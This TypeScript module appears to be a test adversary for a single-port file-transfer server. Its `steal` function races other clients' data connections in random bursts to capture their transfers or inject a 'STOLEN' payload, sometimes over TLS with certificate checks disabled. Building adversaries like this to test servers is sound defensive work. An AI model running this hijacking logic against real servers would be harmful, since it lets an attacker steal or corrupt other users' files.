import { randomInt } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { dial, OnePortClient } from './one-port-client.ts';

/** What is sent in the hope that it becomes somebody's file. */
export const loot = 'STOLEN';

/** Tries to get what is meant for others at `from`, in every way, until the time is up. Gives all that it got. */
export async function steal(from: string, port: number, until: number): Promise<string> {
  let got = '';
  // A control connection of its own makes its tickets real ones.
  let own = await OnePortClient.login(from, port, { tls: true });
  while (performance.now() < until) {
    // Bursts, with room in between for honest transfers to be alone.
    const burst = performance.now() + randomInt(400);
    while (performance.now() < burst) {
      got += await attempt(from, port, own);
      await pause(randomInt(40));
    }
    await pause(randomInt(2500));
    if (own === undefined || own.closed) own = await OnePortClient.login(from, port, { tls: true });
  }
  own?.close();
  return got;
}

async function attempt(from: string, port: number, own: OnePortClient | undefined): Promise<string> {
  const socket = await dial(from, port);
  let got = '';
  const hear = (chunk: Buffer) => {
    got += chunk.toString('latin1');
  };
  switch (randomInt(4)) {
    case 0:
      socket.on('data', hear);
      break;
    case 1:
      socket.on('data', hear).end(loot);
      break;
    case 2:
      connectTls({ socket, rejectUnauthorized: false })
        .on('data', hear)
        .on('error', () => {})
        .write(loot);
      break;
    default:
      own
        ?.secureData(socket)
        .on('data', hear)
        .on('error', () => {})
        .write(loot);
  }
  await Promise.race([new Promise<void>((resolve) => socket.once('close', resolve)), pause(randomInt(600))]);
  socket.destroy();
  return got;
}
